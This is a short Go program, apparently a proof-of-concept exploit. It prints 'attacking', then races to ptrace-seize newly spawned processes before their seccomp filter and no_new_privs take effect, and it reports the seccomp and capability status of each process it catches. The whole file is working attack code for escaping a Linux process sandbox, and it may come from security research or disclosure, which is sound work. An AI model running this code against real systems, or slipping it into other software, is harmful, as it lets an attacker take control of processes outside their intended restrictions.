package main

import (
	"errors"
	"fmt"
	"os"
	"regexp"
	"runtime"
	"strings"

	"golang.org/x/sys/unix"
)

// seizeNewcomers tries to trace every process from the moment of its birth: who is the runtime's then, or on its way to a
// program, has neither its filter nor no_new_privs yet, and its tracer would have a process without them.
func seizeNewcomers() {
	runtime.LockOSThread()
	fmt.Println("attacking")
	const ahead = 32 // pids are given in order
	for next := os.Getpid() + 1; ; {
		for pid := next; pid < next+ahead; pid++ {
			err := seize(pid)
			if errors.Is(err, unix.EPERM) && isOwn(pid) {
				next = pid + 1
			}
			// While the process executes something this waits for the very moment at which it is done.
			for errors.Is(err, unix.EPERM) && next <= pid {
				err = seize(pid)
			}
			if err == nil {
				fmt.Println(examine(pid))
				next = pid + 1
			}
		}
	}
}

// isOwn tells whether it is a thread of this process.
func isOwn(pid int) bool {
	return unix.Access(fmt.Sprintf("/proc/self/task/%d", pid), unix.F_OK) == nil
}

func seize(pid int) error {
	if _, _, errno := unix.RawSyscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0); errno != 0 {
		return errno
	}
	return nil
}

var restrictions = regexp.MustCompile(`(?m)^(NoNewPrivs|Seccomp|CapPrm):\s.*$`)

// examine stops a traced process, tells what it may do, and lets it go.
func examine(pid int) string {
	_, _, _ = unix.RawSyscall6(unix.SYS_PTRACE, unix.PTRACE_INTERRUPT, uintptr(pid), 0, 0, 0, 0)
	var status unix.WaitStatus
	_, err := unix.Wait4(pid, &status, unix.WALL, nil)
	content, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	exe, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
	found := strings.Join(restrictions.FindAllString(string(content), -1), " ")
	_ = unix.PtraceDetach(pid)
	return fmt.Sprintf("seized %s (%v): %s", exe, err, strings.ReplaceAll(found, "\t", " "))
}
